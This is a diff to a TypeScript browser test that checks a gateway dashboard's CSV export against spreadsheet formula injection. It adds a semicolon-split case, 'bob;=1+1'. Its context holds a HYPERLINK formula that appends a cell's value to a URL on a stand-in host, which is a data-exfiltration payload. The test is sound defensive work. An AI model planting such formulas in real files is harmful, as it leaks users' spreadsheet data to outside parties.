@@ -13,6 +13,8 @@ import { chatStatus, startTestGateway, type TestGateway } from '../support/gatew
 import { CLIENT_KEY, PROVIDER_KEY } from '../support/setup.js';
 
 const FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"ok")';
+/** Harmless in a comma-separated file; opened where `;` separates cells, its second cell is a formula. */
+const SPLIT_FORMULA = 'bob;=1+1';
 const ARTIFACTS = join(import.meta.dirname, '../../test-artifacts/dashboard');
 const NEW_PROVIDER_KEY = 'sk-dashboard-rotated-key-0123456789abcdef';
 const PAGES = ['overview', 'keys', 'tokens', 'sessions', 'usage', 'audit', 'alerts'] as const;
@@ -79,6 +81,11 @@ describe.skipIf(!hasChromium())(
         userId: FORMULA,
       });
       expect(await chatStatus(kw, formula.json.token)).toBe(200);
+      const split = await adminCall(kw.adminUrl, 'POST', '/admin/tokens', {
+        name: 'split',
+        userId: SPLIT_FORMULA,
+      });
+      expect(await chatStatus(kw, split.json.token)).toBe(200);
     });
     afterAll(async () => {
       await browser?.close();
@@ -268,6 +275,7 @@ describe.skipIf(!hasChromium())(
       ]);
       const users = readFileSync((await byUser.path())!, 'utf8');
       expect(users).toContain(`\n"'${FORMULA.replaceAll('"', '""')}",1,`);
+      expect(users).toContain(`\n"${SPLIT_FORMULA}",1,`);
       await page.context().close();
       expect(problems).toEqual([]);
     });
